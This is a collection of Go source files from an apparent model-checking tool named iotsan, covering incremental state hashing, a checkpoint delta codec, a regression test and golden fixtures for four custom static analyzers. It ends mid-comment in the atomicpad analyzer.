	h *= 0xbf58476d1ce4e5b9
	h ^= h >> 27
	h *= 0x94d049bb133111eb
	h ^= h >> 31
	return h
}

// refreshBlocks re-encodes every dirty block into a pooled scratch
// buffer and updates its cached hash, clearing the dirty mask. No-op
// (and allocation-free) on clean or cache-less states.
//
//iotsan:digest-funnel
func (m *Model) refreshBlocks(s *State) {
	if s.dirtyMask == nil {
		return
	}
	anyDirty := false
	for _, w := range s.dirtyMask {
		if w != 0 {
			anyDirty = true
			break
		}
	}
	if !anyDirty {
		return
	}
	bp := m.encBufs.Get().(*[]byte)
	buf := *bp
	nDev, nApp := len(s.Devices), len(s.Apps)
	for wi, word := range s.dirtyMask {
		for word != 0 {
			b := wi<<6 + bits.TrailingZeros64(word)
			word &= word - 1
			buf = buf[:0]
			switch {
			case b == 0:
				buf = s.encodeHeader(buf)
			case b <= nDev:
				buf = encodeDevice(buf, &s.Devices[b-1])
			case b <= nDev+nApp:
				ai := b - 1 - nDev
				var ref bool
				buf, ref = encodeApp(buf, &s.Apps[ai], nil)
				s.setDevRef(ai, ref)
			case b == s.queueBlock():
				buf = encodeQueue(buf, s.Queue)
			default:
				buf = encodeCmds(buf, s.Cmds, s.InFlight)
			}
			s.blockHash[b] = fnv1a64(buf)
		}
		s.dirtyMask[wi] = 0
	}
	*bp = buf
	m.encBufs.Put(bp)
}

// IncrementalDigest returns the engine digest of s computed from the
// per-block hash cache, refreshing dirty blocks first. With canonical
// set (and a symmetry table present) it folds the blocks through the
// orbit-canonical view instead of index order, reusing cached raw
// hashes for every block the canonicalization leaves untouched.
// Exported for the checker (via the IncrementalDigester interface) and
// for equivalence tests.
//
//iotsan:digest-funnel
func (m *Model) IncrementalDigest(s *State, canonical bool) (uint64, uint64) {
	if canonical && m.sym != nil && m.sym.flatCanon {
		// Flat canonicalization reads only state content — devProfile
		// delegates to the block encoder on flat-canonical tables — so
		// the dirty blocks need no refresh first (their cached hashes
		// stay stale until a raw digest of this state wants them).
		return m.flatCanonicalDigest(s)
	}
	// Refresh before any canonical-view construction: orbit profiles key
	// on cached device-block hashes, which must reflect content, never
	// dirtiness (dirty masks are not invariant under the group action).
	m.refreshBlocks(s)
	if !canonical || m.sym == nil {
		mx := newBlockMix()
		for _, bh := range s.blockHash {
			mx.mix(bh)
		}
		return mx.sum()
	}
	return m.canonicalFold(s)
}

// flatCanonicalDigest hashes the flat canonical encoding directly. On
// tiny-orbit workloads the cached-hash canonical fold costs more than
// it saves (profile sorting dominates and almost every block re-hashes
// anyway), so buildSymmetry flags such symmetry tables with flatCanon
// and the digest takes this path instead — without refreshing the
// block-hash cache, since on flat-canonical tables the orbit profiles
// inside CanonicalEncode are content-keyed (devProfile) rather than
// cached-hash-keyed.
//
//iotsan:digest-funnel
func (m *Model) flatCanonicalDigest(s *State) (uint64, uint64) {
	bp := m.encBufs.Get().(*[]byte)
	buf := m.CanonicalEncode(s, (*bp)[:0])
	// One fused pass: h1 is fnv1a64(buf); h2 runs the blockMix-style
	// second accumulator over the same bytes, splitmix-finalised so the
	// pair stays independent of h1.
	h1, h2 := uint64(fnvOffset64), uint64(mixSeed)
	for _, c := range buf {
		h1 = (h1 ^ uint64(c)) * fnvPrime64
		h2 = (h2 ^ uint64(c)) * mixMult
	}
	*bp = buf
	m.encBufs.Put(bp)
	return h1, splitmix64(h2)
}

// canonicalFold combines cached block hashes through the canonical
// (orbit-permuted) view: device blocks fold in canonical order, app
// blocks re-encode only under a non-identity renaming when they hold a
// device reference, and the queue/command blocks re-encode only when
// canonicalization actually produced normalised copies.
//
//iotsan:digest-funnel
func (m *Model) canonicalFold(s *State) (uint64, uint64) {
	cs := m.sym.scratch.Get().(*canonScratch)
	cv := m.buildCanonView(s, cs)
	nDev := len(s.Devices)

	mx := newBlockMix()
	mx.mix(s.blockHash[0])
	identity := true
	for p := 0; p < nDev; p++ {
		d := cv.order[p]
		if int(d) != p {
			identity = false
		}
		mx.mix(s.blockHash[1+d])
	}

	var bp *[]byte
	var buf []byte
	for i := range s.Apps {
		if identity || !s.appHasDevRef(i) {
			mx.mix(s.blockHash[1+nDev+i])
			continue
		}
		if bp == nil {
			bp = m.encBufs.Get().(*[]byte)
			buf = *bp
		}
		buf = buf[:0]
		buf, _ = encodeApp(buf, &s.Apps[i], cv.devMap)
		mx.mix(fnv1a64(buf))
	}
	if cv.queueAliased {
		mx.mix(s.blockHash[s.queueBlock()])
	} else {
		if bp == nil {
			bp = m.encBufs.Get().(*[]byte)
			buf = *bp
		}
		buf = encodeQueue(buf[:0], cv.queue)
		mx.mix(fnv1a64(buf))
	}
	if cv.cmdsAliased {
		mx.mix(s.blockHash[s.cmdsBlock()])
	} else {
		if bp == nil {
			bp = m.encBufs.Get().(*[]byte)
			buf = *bp
		}
		buf = encodeCmds(buf[:0], cv.cmds, cv.inFlight)
		mx.mix(fnv1a64(buf))
	}
	if bp != nil {
		*bp = buf
		m.encBufs.Put(bp)
	}
	m.sym.scratch.Put(cs)
	return mx.sum()
}
