//go:build !iotsan_skipmark

package model

// skipQueueMark gates a deliberate dirty-mark fault: when armed (see
// skipmark_on.go), enqueue appends to the queue block without calling
// markQueue. Normal builds keep the fault off; the iotsan_skipmark
// build tag arms it so the negative runtime-oracle test can prove the
// incremental-digest equivalence walk actually notices a missed mark.
const skipQueueMark = false
