package model

import (
	"bytes"
	"testing"
)

// TestEncodeWideFieldsNoAlias is the regression gate for the historical
// single-byte truncation of EventsUsed, Pending.SubIdx, Pending.Source,
// CmdRec.Dev, and CmdRec.App: each pair below collided byte-for-byte
// under the old encoding (values 256 apart truncate to the same byte,
// and negative pseudo-sources wrapped onto positive device indices), so
// configs with >255 subscriptions or devices silently aliased distinct
// states into one digest. The varint encoding must keep them distinct.
func TestEncodeWideFieldsNoAlias(t *testing.T) {
	pairs := []struct {
		name string
		a, b State
	}{
		{"EventsUsed", State{EventsUsed: 1}, State{EventsUsed: 257}},
		{"Pending.SubIdx",
			State{Queue: []Pending{{SubIdx: 1}}},
			State{Queue: []Pending{{SubIdx: 257}}}},
		{"Pending.Source",
			State{Queue: []Pending{{Source: -1}}},
			State{Queue: []Pending{{Source: 255}}}},
		{"CmdRec.Dev",
			State{Cmds: []CmdRec{{Dev: 0}}},
			State{Cmds: []CmdRec{{Dev: 256}}}},
		{"CmdRec.App",
			State{Cmds: []CmdRec{{App: 2}}},
			State{Cmds: []CmdRec{{App: 258}}}},
	}
	for _, p := range pairs {
		ea, eb := p.a.Encode(nil), p.b.Encode(nil)
		if bytes.Equal(ea, eb) {
			t.Errorf("%s: two distinct states alias to one encoding (%x)", p.name, ea)
		}
	}
}
