package model

import (
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"

	"iotsan/internal/checker"
)

// Block-delta codec for the checkpoint WAL (checker.DeltaCodec).
//
// A DFS stack frame differs from its parent by exactly the blocks one
// transition dirtied, so the WAL spills each frame as (dirty mask,
// dirty block bytes) against its parent instead of the full state
// vector — PR 6's block structure doing double duty as the delta
// domain. The codec is defined purely in terms of the per-block
// encoders in state.go: DeltaApply reproduces the flat Encode output
// byte for byte by re-encoding the parent's clean blocks and splicing
// in the recorded dirty ones, which is what lets the resume path use
// deltas as an end-to-end integrity check against re-expansion.
//
// Dirtiness is decided by comparing the two states' per-block
// encodings directly (not the blockHash cache): the checkpoint runs
// once every few thousand states, and byte comparison cannot be fooled
// by a block-hash collision into recording a lossy delta.

// Delta wire format, versioned by the leading tag byte:
//
//	0x01  full: the child's flat encoding follows verbatim (frame 0,
//	      or parent/child shapes that the block codec cannot relate).
//	0x02  block delta: uvarint block count, then ceil(n/64) little-
//	      endian mask words, then for each set bit in index order a
//	      uvarint length + that block's encoding.
const (
	deltaTagFull  = 0x01
	deltaTagBlock = 0x02
)

var errDeltaMalformed = errors.New("model: malformed block delta")

func (a sysAdapter) DeltaEncode(child, parent checker.State, buf []byte) []byte {
	return a.m.DeltaEncode(child.(*State), parent.(*State), buf)
}

func (a sysAdapter) DeltaApply(parent checker.State, delta []byte, buf []byte) ([]byte, error) {
	return a.m.DeltaApply(parent.(*State), delta, buf)
}

// encodeBlock appends the single-block encoding of block b of s —
// exactly the bytes refreshBlocks hashes for that block, and exactly
// the slice of the flat encoding the block occupies.
func encodeBlock(s *State, b int, buf []byte) []byte {
	nDev, nApp := len(s.Devices), len(s.Apps)
	switch {
	case b == 0:
		return s.encodeHeader(buf)
	case b <= nDev:
		return encodeDevice(buf, &s.Devices[b-1])
	case b <= nDev+nApp:
		out, _ := encodeApp(buf, &s.Apps[b-1-nDev], nil)
		return out
	case b == s.queueBlock():
		return encodeQueue(buf, s.Queue)
	default:
		return encodeCmds(buf, s.Cmds, s.InFlight)
	}
}

// DeltaEncode appends child's delta against parent to buf[:0]. Falls
// back to the full-encoding format when the two states do not share a
// block shape (Clone never changes device/app counts, so the fallback
// only triggers for unrelated states).
func (m *Model) DeltaEncode(child, parent *State, buf []byte) []byte {
	if len(child.Devices) != len(parent.Devices) || len(child.Apps) != len(parent.Apps) {
		buf = append(buf[:0], deltaTagFull)
		return child.Encode(buf)
	}
	nb := child.nBlocks()
	mw := maskWords(nb)

	// Pass 1: byte-compare per-block encodings to build the dirty mask.
	cbp := m.encBufs.Get().(*[]byte)
	pbp := m.encBufs.Get().(*[]byte)
	cb, pb := *cbp, *pbp
	var mask [8]uint64 // nBlocks ≤ 512 covers any realistic config
	if mw > len(mask) {
		buf = append(buf[:0], deltaTagFull)
		buf = child.Encode(buf)
		*cbp, *pbp = cb, pb
		m.encBufs.Put(cbp)
		m.encBufs.Put(pbp)
		return buf
	}
	for b := 0; b < nb; b++ {
		cb = encodeBlock(child, b, cb[:0])
		pb = encodeBlock(parent, b, pb[:0])
		if !bytes.Equal(cb, pb) {
			mask[b>>6] |= 1 << uint(b&63)
		}
	}

	// Pass 2: emit tag, shape, mask, then the dirty blocks in order.
	buf = append(buf[:0], deltaTagBlock)
	buf = binary.AppendUvarint(buf, uint64(nb))
	for w := 0; w < mw; w++ {
		buf = binary.LittleEndian.AppendUint64(buf, mask[w])
	}
	for b := 0; b < nb; b++ {
		if mask[b>>6]&(1<<uint(b&63)) == 0 {
			continue
		}
		cb = encodeBlock(child, b, cb[:0])
		buf = binary.AppendUvarint(buf, uint64(len(cb)))
		buf = append(buf, cb...)
	}
	*cbp, *pbp = cb, pb
	m.encBufs.Put(cbp)
	m.encBufs.Put(pbp)
	return buf
}

// DeltaApply reconstructs the child's flat encoding into buf[:0] by
// re-encoding parent's clean blocks and splicing the delta's dirty
// block bytes in index order. The output equals child.Encode(nil) for
// the child DeltaEncode was given, by construction of encodeBlock.
func (m *Model) DeltaApply(parent *State, delta []byte, buf []byte) ([]byte, error) {
	if len(delta) == 0 {
		return nil, errDeltaMalformed
	}
	switch delta[0] {
	case deltaTagFull:
		return append(buf[:0], delta[1:]...), nil
	case deltaTagBlock:
	default:
		return nil, fmt.Errorf("model: unknown delta tag 0x%02x", delta[0])
	}
	rest := delta[1:]
	nb64, n := binary.Uvarint(rest)
	if n <= 0 {
		return nil, errDeltaMalformed
	}
	rest = rest[n:]
	nb := int(nb64)
	if nb != parent.nBlocks() {
		return nil, fmt.Errorf("model: delta block count %d does not match parent shape %d", nb, parent.nBlocks())
	}
	mw := maskWords(nb)
	if len(rest) < 8*mw {
		return nil, errDeltaMalformed
	}
	mask := make([]uint64, mw)
	for w := 0; w < mw; w++ {
		mask[w] = binary.LittleEndian.Uint64(rest[8*w:])
	}
	rest = rest[8*mw:]

	buf = buf[:0]
	for b := 0; b < nb; b++ {
		if mask[b>>6]&(1<<uint(b&63)) == 0 {
			buf = encodeBlock(parent, b, buf)
			continue
		}
		blen, n := binary.Uvarint(rest)
		if n <= 0 || uint64(len(rest)-n) < blen {
			return nil, errDeltaMalformed
		}
		buf = append(buf, rest[n:n+int(blen)]...)
		rest = rest[n+int(blen):]
	}
	if len(rest) != 0 {
		return nil, errDeltaMalformed
	}
	return buf, nil
}
