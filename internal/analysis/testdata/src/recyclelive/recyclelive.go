// Package recyclelive is the golden fixture for the recyclelive
// analyzer: annotated retire sinks (function, method, and interface
// method), the sanctioned nil-reset idiom, branch-sensitive flows, and
// the suppression paths.
package recyclelive

type State struct {
	n     int
	attrs []int16
}

type Transition struct {
	Next *State
}

type pool struct{ free []*State }

//iotsan:retires s
func (p *pool) recycle(s *State) { p.free = append(p.free, s) }

//iotsan:retires trs
func retireTransitions(trs []Transition) {}

type recycler interface {
	//iotsan:retires s
	Recycle(s *State)
}

// goodReadBefore reads the value before retiring it.
func goodReadBefore(p *pool, s *State) int {
	v := s.n
	p.recycle(s)
	return v
}

// goodNilReset is the engine's sanctioned idiom: retire the element,
// nil the slot, and the container stays usable.
func goodNilReset(p *pool, trs []Transition, i int) Transition {
	p.recycle(trs[i].Next)
	trs[i].Next = nil
	return trs[i]
}

// goodBranchReturn retires on a branch that cannot fall through, so
// the read below is only reachable with a live state.
func goodBranchReturn(p *pool, s *State, dup bool) int {
	if dup {
		p.recycle(s)
		return 0
	}
	return s.n
}

// goodLoopContinue mirrors the DFS duplicate-pruning loop: the retire
// arm continues, the expansion arm below stays clean.
func goodLoopContinue(p *pool, trs []Transition, dup []bool) int {
	total := 0
	for i := range trs {
		if dup[i] {
			p.recycle(trs[i].Next)
			trs[i].Next = nil
			continue
		}
		total += trs[i].Next.n
	}
	return total
}

func badRead(p *pool, s *State) int {
	p.recycle(s)
	return s.n // want `use of s\.n after`
}

func badFieldRead(p *pool, s *State) int16 {
	p.recycle(s)
	return s.attrs[0] // want `use of s\.attrs`
}

func badWriteInto(p *pool, s *State) {
	p.recycle(s)
	s.n = 1 // want `use of s\.n after`
}

func badDoubleRetire(p *pool, s *State) {
	p.recycle(s)
	p.recycle(s) // want `retired twice`
}

func badIfaceSink(r recycler, s *State) int {
	r.Recycle(s)
	return s.n // want `use of s\.n after`
}

func badSliceSink(trs []Transition) *State {
	retireTransitions(trs)
	return trs[0].Next // want `use of trs`
}

func badMergedBranch(p *pool, s *State, dup bool) int {
	if dup {
		p.recycle(s)
	}
	return s.n // want `use of s\.n after`
}

// allowedUse carries a justified suppression.
func allowedUse(p *pool, s *State) int {
	p.recycle(s)
	//iotsan:allow recyclelive -- fixture: single-threaded test hook inspects the free-list entry it just pushed
	return s.n
}

// bareAllowUse's suppression lacks the justification: it is reported
// and the use-after-retire still fires.
func bareAllowUse(p *pool, s *State) int {
	p.recycle(s)
	//iotsan:allow recyclelive want `requires a justification`
	return s.n // want `use of s\.n after`
}
