// Package atomicpad is the golden fixture for the atomicpad analyzer:
// cacheline quantization of //iotsan:padded structs (type-level and
// field-level), mixed atomic/plain field access, and the suppression
// paths.
package atomicpad

import "sync/atomic"

// goodCounters is cacheline-quantized: 2×8 bytes of counters plus the
// 48-byte pad is exactly one 64-byte line.
//
//iotsan:padded
type goodCounters struct {
	hits  atomic.Uint64
	drops atomic.Uint64
	_     [48]byte
}

//iotsan:padded
type badCounters struct { // want `must be a multiple of the 64-byte cacheline`
	hits atomic.Uint64
	n    int64
}

//iotsan:padded
type badKind int // want `not a struct type`

// shardSet pads per-shard counters via a field-level annotation: the
// array element struct is the padded unit.
type shardSet struct {
	//iotsan:padded
	shards [4]struct {
		count atomic.Int64
		_     [56]byte
	}
}

type badShardSet struct {
	//iotsan:padded
	shards []struct { // want `must be a multiple of the 64-byte cacheline`
		count atomic.Int64
		busy  int32
	}
}

type racy struct {
	counter int64
	name    string
}

// NewRacy may touch counter plainly: nothing else can see the struct
// yet, so constructor writes are exempt.
func NewRacy(name string) *racy {
	r := &racy{name: name}
	r.counter = 0
	return r
}

func bump(r *racy) {
	atomic.AddInt64(&r.counter, 1)
}

func goodAtomicRead(r *racy) int64 {
	return atomic.LoadInt64(&r.counter)
}

func goodOtherField(r *racy) string {
	return r.name
}

func badPlainRead(r *racy) int64 {
	return r.counter // want `accessed with sync/atomic elsewhere`
}

func badPlainWrite(r *racy) {
	r.counter = 0 // want `accessed with sync/atomic elsewhere`
}

// allowedPlainRead carries a justified suppression.
func allowedPlainRead(r *racy) int64 {
	//iotsan:allow atomicpad -- fixture: read under a stop-the-world lock, all writers are quiesced
	return r.counter
}

// bareAllowPlainRead's suppression lacks the justification: it is
// reported and the mixed access still fires.
func bareAllowPlainRead(r *racy) int64 {
	//iotsan:allow atomicpad want `requires a justification`
	return r.counter // want `accessed with sync/atomic elsewhere`
}
