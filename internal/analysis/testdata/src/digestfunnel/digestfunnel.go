// Package digestfunnel is the golden fixture for the digestfunnel
// analyzer: an annotated encode/hash/funnel trio, direct hash-primitive
// calls, encode-then-hash flows through stdlib hashers, and the
// suppression paths.
package digestfunnel

import (
	"hash/fnv"
	"hash/maphash"
)

type State struct{ n int }

//iotsan:state-encode
func (s *State) Encode(buf []byte) []byte {
	return append(buf, byte(s.n))
}

//iotsan:hash-sink
func fnv1a(b []byte) uint64 {
	h := uint64(14695981039346656037)
	for _, c := range b {
		h = (h ^ uint64(c)) * 1099511628211
	}
	return h
}

// digest is the sanctioned funnel: hashing encode output here is the
// whole point.
//
//iotsan:digest-funnel
func digest(s *State, buf []byte) (uint64, []byte) {
	buf = s.Encode(buf[:0])
	return fnv1a(buf), buf
}

// goodFunnelUse reaches the hash only through the funnel.
func goodFunnelUse(s *State) uint64 {
	d, _ := digest(s, nil)
	return d
}

// goodEncodeOnly encodes without hashing (e.g. persistence); that is
// not the funnel's business.
func goodEncodeOnly(s *State, buf []byte) []byte {
	return s.Encode(buf[:0])
}

func badDirect(data []byte) uint64 {
	return fnv1a(data) // want `call to hash primitive fnv1a`
}

func badEncodeFlow(s *State) uint64 {
	b := s.Encode(nil)
	return fnv1a(b) // want `state-encode bytes are hashed via fnv1a`
}

func badResliceFlow(s *State) uint64 {
	b := s.Encode(nil)
	return fnv1a(b[1:]) // want `state-encode bytes are hashed via fnv1a`
}

func badMaphash(seed maphash.Seed, data []byte) uint64 {
	return maphash.Bytes(seed, data) // want `call to hash primitive maphash\.Bytes`
}

func badFnvSum(s *State) []byte {
	h := fnv.New32a()
	b := s.Encode(nil)
	return h.Sum(b) // want `state-encode bytes are hashed via hash\.Hash\.Sum`
}

func badFnvSum32(data []byte) uint32 {
	h := fnv.New32a()
	h.Write(data)
	return h.Sum32() // want `call to hash primitive hash\.Hash\.Sum32`
}

// allowedDirect carries a justified suppression.
func allowedDirect(data []byte) uint64 {
	//iotsan:allow digestfunnel -- fixture: checksum of a log record, not state-encode bytes
	return fnv1a(data)
}

// bareAllowDirect's suppression lacks the justification: it is
// reported and the primitive call still fires.
func bareAllowDirect(data []byte) uint64 {
	//iotsan:allow digestfunnel want `requires a justification`
	return fnv1a(data) // want `call to hash primitive fnv1a`
}
