// Package dirtymark is the golden fixture for the dirtymark analyzer:
// a miniature State with mark helpers, block-annotated storage, paired
// and unpaired writes, writing helpers, and the suppression paths.
package dirtymark

// Dev mirrors model.DevState: type-level annotation puts every field
// in the device block, covering writes through aliased pointers.
//
//iotsan:block device
type Dev struct {
	Online bool
	Attrs  []int16
}

// State mirrors model.State's annotated storage layout.
type State struct {
	Mode    uint8 //iotsan:block header
	Devices []Dev //iotsan:block device
	dirty   uint64
}

//iotsan:marks header
func (s *State) markHeader() { s.dirty |= 1 }

//iotsan:marks device
func (s *State) markDevice(d int) { s.dirty |= 2 << uint(d) }

//iotsan:marks all
func (s *State) MarkAllDirty() { s.dirty = ^uint64(0) }

// goodHeader pairs the header write with its mark.
func goodHeader(s *State) {
	s.Mode = 1
	s.markHeader()
}

// goodAlias writes through a *Dev alias; the type-level annotation
// resolves it to the device block, and the mark is present.
func goodAlias(s *State, i int) {
	d := &s.Devices[i]
	d.Online = false
	s.markDevice(i)
}

// goodAll relies on the marks-all wildcard for both blocks.
func goodAll(s *State) {
	s.Mode = 2
	s.Devices[0].Online = true
	s.MarkAllDirty()
}

// goodRebind only rebinds a pointer variable — not a state write.
func goodRebind(s *State) *Dev {
	d := &s.Devices[0]
	d = &s.Devices[1]
	return d
}

func badHeader(s *State) {
	s.Mode = 3 // want `write to header-block state`
}

func badAlias(s *State, i int) {
	d := &s.Devices[i]
	d.Attrs[0] = 7 // want `write to device-block state`
}

func badAppend(s *State, d Dev) {
	s.Devices = append(s.Devices, d) // want `write to device-block state`
}

// setOnline mutates device storage on behalf of its callers; the
// //iotsan:writes annotation exempts its body and moves the mark
// obligation to every call site.
//
//iotsan:writes device
func setOnline(d *Dev, online bool) {
	d.Online = online
}

func goodHelperCall(s *State, i int) {
	setOnline(&s.Devices[i], true)
	s.markDevice(i)
}

func badHelperCall(s *State, i int) {
	setOnline(&s.Devices[i], false) // want `write to device-block state`
}

// allowedWrite carries a justified suppression, so the missing mark is
// not reported.
func allowedWrite(s *State) {
	s.Mode = 4 //iotsan:allow dirtymark -- fixture: construction-time write, state is hashed from scratch afterwards
}

// allowedFunc carries a function-scope justified suppression.
//
//iotsan:allow dirtymark -- fixture: clone replicates already-hashed content
func allowedFunc(s *State) {
	s.Mode = 5
	s.Devices[0].Online = true
}

// bareAllow's suppression lacks the mandatory justification: it is
// itself reported and suppresses nothing.
func bareAllow(s *State) {
	s.Devices[1].Online = false // want `write to device-block state`
	//iotsan:allow dirtymark want `requires a justification`
	s.dirty = 0
}
