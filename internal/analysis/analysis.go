// Package analysis implements a small, dependency-free static-analysis
// framework and the four iotsan analyzers (dirtymark, recyclelive,
// digestfunnel, atomicpad) that enforce the checker's unwritten
// contracts at compile time. The framework mirrors the shape of
// golang.org/x/tools/go/analysis — Analyzer, Pass, Diagnostic — but is
// built entirely on the standard library so the suite works in
// environments without the x/tools module.
//
// Analyzers communicate with the source through `//iotsan:` directive
// comments (see INVARIANTS.md for the full vocabulary):
//
//	//iotsan:marks <block>         on a dirty-mask mark helper
//	//iotsan:block <block>         on a State storage field or type
//	//iotsan:retires <param>       on a recycle/retire sink
//	//iotsan:hash-sink             on a raw hash primitive
//	//iotsan:digest-funnel         on a sanctioned digest implementation
//	//iotsan:state-encode          on a state-encoding method
//	//iotsan:padded                on a cacheline-quantized struct
//	//iotsan:allow <analyzer> -- <justification>   suppression
//
// A suppression without the mandatory `-- justification` text is
// itself reported by the analyzer it names and does not suppress.
package analysis

import (
	"fmt"
	"go/ast"
	"go/token"
	"go/types"
	"sort"
	"strings"
)

// An Analyzer describes one static check.
type Analyzer struct {
	// Name identifies the analyzer in diagnostics and in
	// //iotsan:allow suppression comments.
	Name string
	// Doc is a one-paragraph description of what the analyzer enforces.
	Doc string
	// Run applies the analyzer to a single type-checked package.
	Run func(*Pass) error
}

// A Diagnostic is a single finding, positioned in the analyzed source.
type Diagnostic struct {
	Pos      token.Position
	Analyzer string
	Message  string
}

func (d Diagnostic) String() string {
	return fmt.Sprintf("%s: %s: %s", d.Pos, d.Analyzer, d.Message)
}

// A Pass holds one analyzer's view of one type-checked package.
type Pass struct {
	Analyzer *Analyzer
	Fset     *token.FileSet
	Files    []*ast.File
	Pkg      *types.Package
	Info     *types.Info
	Sizes    types.Sizes

	allows *allowIndex
	report func(Diagnostic)
}

// Reportf records a diagnostic at pos unless a justified
// //iotsan:allow comment for this analyzer covers the position.
func (p *Pass) Reportf(pos token.Pos, format string, args ...any) {
	position := p.Fset.Position(pos)
	if p.allows.allowed(p.Analyzer.Name, position) {
		return
	}
	p.report(Diagnostic{
		Pos:      position,
		Analyzer: p.Analyzer.Name,
		Message:  fmt.Sprintf(format, args...),
	})
}

// AllowedFunc reports whether fn carries a justified function-scope
// suppression for this analyzer, so an analyzer can skip a whole body.
func (p *Pass) AllowedFunc(fn *ast.FuncDecl) bool {
	for _, d := range parseDirectives(fn.Doc) {
		if d.kind == "allow" && d.allowName() == p.Analyzer.Name && d.allowJustified() {
			return true
		}
	}
	return false
}

// reportBareAllows emits a diagnostic for every //iotsan:allow naming
// this analyzer that lacks the mandatory justification text. Bare
// allows are inert: they never suppress, so these diagnostics cannot
// be self-suppressed.
func (p *Pass) reportBareAllows() {
	for _, file := range p.Files {
		for _, cg := range file.Comments {
			for _, c := range cg.List {
				d, ok := parseDirective(c)
				if !ok || d.kind != "allow" {
					continue
				}
				if d.allowName() == p.Analyzer.Name && !d.allowJustified() {
					p.report(Diagnostic{
						Pos:      p.Fset.Position(c.Pos()),
						Analyzer: p.Analyzer.Name,
						Message: fmt.Sprintf("iotsan:allow %s requires a justification: //iotsan:allow %s -- <why this is safe>",
							p.Analyzer.Name, p.Analyzer.Name),
					})
				}
			}
		}
	}
}

// Analyzers returns the full iotsan suite in deterministic order.
func Analyzers() []*Analyzer {
	return []*Analyzer{
		DirtyMarkAnalyzer,
		RecycleLiveAnalyzer,
		DigestFunnelAnalyzer,
		AtomicPadAnalyzer,
	}
}

// Run applies each analyzer to pkg and returns the findings sorted by
// position. It is the single entry point used by both the iotsan-vet
// driver and the fixture test harness.
func Run(pkg *Package, analyzers []*Analyzer) ([]Diagnostic, error) {
	allows := buildAllowIndex(pkg.Fset, pkg.Files)
	var diags []Diagnostic
	for _, a := range analyzers {
		pass := &Pass{
			Analyzer: a,
			Fset:     pkg.Fset,
			Files:    pkg.Files,
			Pkg:      pkg.Types,
			Info:     pkg.Info,
			Sizes:    pkg.Sizes,
			allows:   allows,
			report:   func(d Diagnostic) { diags = append(diags, d) },
		}
		pass.reportBareAllows()
		if err := a.Run(pass); err != nil {
			return diags, fmt.Errorf("%s: %w", a.Name, err)
		}
	}
	sort.Slice(diags, func(i, j int) bool {
		a, b := diags[i], diags[j]
		if a.Pos.Filename != b.Pos.Filename {
			return a.Pos.Filename < b.Pos.Filename
		}
		if a.Pos.Line != b.Pos.Line {
			return a.Pos.Line < b.Pos.Line
		}
		if a.Pos.Column != b.Pos.Column {
			return a.Pos.Column < b.Pos.Column
		}
		return a.Analyzer < b.Analyzer
	})
	return diags, nil
}

// --- directive parsing ---

// A directive is one parsed //iotsan: comment.
type directive struct {
	pos  token.Pos
	kind string // "marks", "block", "retires", "hash-sink", ...
	args string // remainder after the kind, trimmed
}

// parseDirective parses a single comment; ok is false when the comment
// is not an iotsan directive.
func parseDirective(c *ast.Comment) (directive, bool) {
	text := strings.TrimPrefix(c.Text, "//")
	if !strings.HasPrefix(text, "iotsan:") {
		return directive{}, false
	}
	body := strings.TrimPrefix(text, "iotsan:")
	kind, args, _ := strings.Cut(body, " ")
	return directive{pos: c.Pos(), kind: strings.TrimSpace(kind), args: strings.TrimSpace(args)}, true
}

// parseDirectives parses every iotsan directive in a comment group.
func parseDirectives(cg *ast.CommentGroup) []directive {
	if cg == nil {
		return nil
	}
	var out []directive
	for _, c := range cg.List {
		if d, ok := parseDirective(c); ok {
			out = append(out, d)
		}
	}
	return out
}

// nodeDirectives gathers the directives attached to a declaration
// site: its doc comment plus an optional trailing line comment.
func nodeDirectives(groups ...*ast.CommentGroup) []directive {
	var out []directive
	for _, cg := range groups {
		out = append(out, parseDirectives(cg)...)
	}
	return out
}

// allowName returns the analyzer name an allow directive targets.
func (d directive) allowName() string {
	name, _, _ := strings.Cut(d.args, " ")
	return strings.TrimSpace(name)
}

// allowJustified reports whether the allow carries the mandatory
// "-- justification" text with a non-empty justification.
func (d directive) allowJustified() bool {
	_, just, found := strings.Cut(d.args, "--")
	return found && strings.TrimSpace(just) != ""
}

// --- suppression index ---

// allowIndex records, per file and line, which analyzers carry a
// justified suppression. An allow comment on line L covers findings on
// L (trailing comment) and L+1 (comment on its own line above the
// statement). Function-doc allows are handled separately by
// Pass.AllowedFunc plus a range index here so expression-level
// diagnostics inside the function are also covered.
type allowIndex struct {
	// lines maps filename -> line -> set of analyzer names allowed.
	lines map[string]map[int]map[string]bool
	// funcRanges maps filename -> list of [startLine, endLine, name].
	funcRanges map[string][]allowRange
}

type allowRange struct {
	start, end int
	name       string
}

func buildAllowIndex(fset *token.FileSet, files []*ast.File) *allowIndex {
	ix := &allowIndex{
		lines:      make(map[string]map[int]map[string]bool),
		funcRanges: make(map[string][]allowRange),
	}
	add := func(filename string, line int, name string) {
		m := ix.lines[filename]
		if m == nil {
			m = make(map[int]map[string]bool)
			ix.lines[filename] = m
		}
		for _, l := range [2]int{line, line + 1} {
			if m[l] == nil {
				m[l] = make(map[string]bool)
			}
			m[l][name] = true
		}
	}
	for _, file := range files {
		for _, cg := range file.Comments {
			for _, c := range cg.List {
				d, ok := parseDirective(c)
				if !ok || d.kind != "allow" || !d.allowJustified() {
					continue
				}
				pos := fset.Position(c.Pos())
				add(pos.Filename, pos.Line, d.allowName())
			}
		}
		for _, decl := range file.Decls {
			fn, ok := decl.(*ast.FuncDecl)
			if !ok || fn.Doc == nil {
				continue
			}
			for _, d := range parseDirectives(fn.Doc) {
				if d.kind != "allow" || !d.allowJustified() {
					continue
				}
				start := fset.Position(fn.Pos())
				end := fset.Position(fn.End())
				ix.funcRanges[start.Filename] = append(ix.funcRanges[start.Filename],
					allowRange{start: start.Line, end: end.Line, name: d.allowName()})
			}
		}
	}
	return ix
}

func (ix *allowIndex) allowed(analyzer string, pos token.Position) bool {
	if m := ix.lines[pos.Filename]; m != nil && m[pos.Line][analyzer] {
		return true
	}
	for _, r := range ix.funcRanges[pos.Filename] {
		if r.name == analyzer && pos.Line >= r.start && pos.Line <= r.end {
			return true
		}
	}
	return false
}
