package analysis

import (
	"go/ast"
	"go/types"
	"strings"
)

// AtomicPadAnalyzer guards the PR 8 padded-counter layouts. Structs
// annotated `//iotsan:padded` (on the type declaration, or on a field
// whose — possibly array/slice — element type is the padded struct)
// must stay cacheline-quantized: their size must be a multiple of 64
// bytes so adjacent elements never share a line, and every 64-bit
// atomic field (sync/atomic value types or plain (u)int64 touched via
// sync/atomic calls) must sit at an 8-byte-aligned offset.
//
// Independently, any plain field accessed through a sync/atomic
// function anywhere in the package must never be read or written
// non-atomically outside functions named New*/init — mixed access is
